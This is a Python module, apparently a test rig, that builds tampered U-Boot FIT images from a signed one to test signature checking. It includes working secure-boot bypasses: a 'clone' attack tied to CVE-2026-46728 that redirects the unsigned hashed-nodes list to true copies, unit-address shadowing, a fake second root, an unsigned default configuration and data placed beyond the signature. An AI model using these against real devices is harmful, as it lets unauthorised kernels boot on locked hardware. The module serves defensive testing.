# SPDX-License-Identifier: Apache-2.0
"""FITs as an attacker without the boot key would make them, from a rightly signed one. The evil kernel says "kernel X"."""

import hashlib

from fdt import Fdt, Node
from rig import kernel


def flip(image, at):
    return image[:at] + bytes([image[at] ^ 1]) + image[at + 1:]


def cut(image):
    """Without the last bytes that mean something: behind them is only room to grow."""
    return image[:len(image.rstrip(b"\0")) - 4]


def kernel_byte(image):
    return flip(image, image.index(b"kernel A") + 7)


def edited(image, path, name, value):
    """One property of one node changed."""
    fdt = Fdt(image)
    fdt.root.child(path).set(name, value)
    return fdt.encode()


def without(image, path, name):
    fdt = Fdt(image)
    fdt.root.child(path).delete(name)
    return fdt.encode()


def unsigned(image):
    fdt = Fdt(image)
    conf = fdt.root.child("configurations/conf")
    conf.children = [child for child in conf.children if not child.name.startswith("signature")]
    return fdt.encode()


def make_evil(node, name=None):
    """The image node with the evil kernel in it and a hash that fits."""
    node.set("data", kernel("X"))
    node.child("hash-1").set("value", hashlib.sha256(kernel("X")).digest())
    node.name = name or node.name


def kernel_and_hash(image):
    fdt = Fdt(image)
    make_evil(fdt.root.child("images/kernel"))
    return fdt.encode()


def mixed(conf_of, kernel_of):
    """Two rightly signed releases: the configuration and its signature of one, the kernel and its hash of the other."""
    fdt = Fdt(conf_of)
    images = fdt.root.child("images")
    images.children = [Fdt(kernel_of).root.child("images/kernel")]
    return fdt.encode()


def clone(image):
    """
    CVE-2026-46728. The signature covers the nodes that its own, unsigned `hashed-nodes` names: that list is led to true copies of the image's nodes
    deeper in /images, where nothing else is covered, and the real ones are changed. (Tried on a U-Boot without the fix: kernel X runs.)
    """
    fdt = Fdt(image)
    images = fdt.root.child("images")
    true_copy = images.child("kernel").copy()
    make_evil(images.child("kernel"))
    # The empty node keeps the end of "clone" out of what is hashed.
    images.children.append(Node("clone", children=[true_copy, Node("end")]))
    signature = fdt.root.child("configurations/conf/signature-1")
    signature.set("hashed-nodes", signature.get("hashed-nodes").replace(b"/images/kernel", b"/images/clone/kernel"))
    return fdt.encode()


def unit_address(image):
    """`kernel` also finds a node `kernel@1`, if that one comes first."""
    fdt = Fdt(image)
    images = fdt.root.child("images")
    evil = images.child("kernel").copy()
    make_evil(evil, "kernel@1")
    images.children.insert(0, evil)
    return fdt.encode()


def nested_unit_address(image):
    """The same inside the image's own node: its hash beside a `hash-1@1` of the evil kernel."""
    fdt = Fdt(image)
    node = fdt.root.child("images/kernel")
    true_copy = node.copy()
    make_evil(node)
    true_copy.name = "kernel@1"
    node.children.insert(0, true_copy)
    return fdt.encode()


def _evil_root(image):
    evil = Fdt(image)
    make_evil(evil.root.child("images/kernel"))
    return evil.root


def fake_root(image):
    """A second root before the signed one: paths are looked up in the first, hashed in both."""
    fdt = Fdt(image)
    fdt.roots.insert(0, _evil_root(image))
    return fdt.encode()


def second_root(image):
    fdt = Fdt(image)
    fdt.roots.append(_evil_root(image))
    return fdt.encode()


def second_configuration(image):
    """The unsigned `default` leads to an unsigned configuration."""
    fdt = Fdt(image)
    evil = fdt.root.child("images/kernel").copy()
    make_evil(evil, "evil")
    fdt.root.child("images").children.append(evil)
    configurations = fdt.root.child("configurations")
    configurations.set("default", b"conf2\0")
    conf = configurations.child("conf").copy()
    conf.name = "conf2"
    conf.set("kernel", b"evil\0")
    conf.children = []
    configurations.children.insert(0, conf)
    return fdt.encode()


def external_data(image, offset=None):
    """The kernel's data behind the FIT, where no signature reaches; the rest is still rightly signed."""
    fdt = Fdt(image)
    node = fdt.root.child("images/kernel")
    data = node.get("data")
    node.delete("data")
    node.props += [("data-size", len(data).to_bytes(4, "big")), ("data-offset", (offset or 0).to_bytes(4, "big"))]
    return fdt.encode() + data
